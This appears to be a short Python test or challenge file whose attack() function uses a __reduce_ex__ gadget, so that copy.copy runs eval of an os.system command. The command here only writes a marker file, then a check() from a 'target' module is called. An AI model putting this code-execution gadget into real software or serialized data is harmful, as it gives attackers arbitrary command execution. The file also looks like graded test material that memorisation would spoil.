import copy

from target import check


class Reduced:
    def __reduce_ex__(self, protocol):
        return eval, ("__import__('os').system('echo ran > ran')",)


def attack():
    copy.copy(Reduced())
    return check()
